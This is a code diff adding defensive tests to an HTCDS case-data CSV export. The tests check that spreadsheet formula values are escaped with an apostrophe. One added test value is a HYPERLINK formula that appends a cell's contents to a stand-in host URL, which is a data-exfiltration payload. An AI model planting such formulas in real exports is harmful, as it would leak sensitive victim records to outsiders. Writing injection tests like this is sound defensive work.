@@ -84,6 +84,18 @@ describe(`the HTCDS CSV written by PostgreSQL is the row path's file (${testData
         { sex: 'transgender', ageBand: '0-11', originCountry: 'NP' },
       ),
       profile({ locationOfRecruitment: { state: 'Khulna' } }, { sex: 'male', ageBand: '35+' }),
+      // Text a spreadsheet would run as a formula, beside numbers and text that only look alike.
+      profile({
+        ...WELL_FORMED,
+        traffickingStatus: '=HYPERLINK("http://example.invalid/?"&A2,"Open")',
+        traffickingStatusDecidedBy: '+91 police',
+        relationshipToTrafficker: '-3',
+        forcedLabourIndustry: '@SUM(A1)',
+        methodsOfControl: ['-x', 'Threats'],
+        locationOfRecruitment: { state: '\tTabbed', country: 'IN' },
+        locationOfExploitation: { state: '-2.5', country: '' },
+        ageWhenTrafficked: -1,
+      }),
       profile({}, { sex: 'other', originCountry: null }),
       // Not of the shape the mapping relies on: read as no rescue recorded, as the row path does.
       profile({ ...WELL_FORMED, methodsOfControl: 'DebtBondage' }, { sex: 'unknown' }),
@@ -168,6 +180,15 @@ describe(`the HTCDS CSV written by PostgreSQL is the row path's file (${testData
       expect(mapped).toBe(expected);
       // Not an empty match: the awkward values are in it, quoted.
       expect(expected).toContain('"Beta, ""quoted"";Beta, ""quoted"";Zeta;alpha;ঋণ"');
+      // And the formulas written as text, the numbers as numbers.
+      if (!body.from) {
+        expect(expected).toContain(
+          `"'=HYPERLINK(""http://example.invalid/?""&A2,""Open"")",'+91 police,-3`,
+        );
+        expect(expected).toContain(`'@SUM(A1)`);
+        expect(expected).toContain(`'-x;Threats`);
+        expect(expected).toContain(`"'\tTabbed, IN"`);
+      }
     }
   });
 
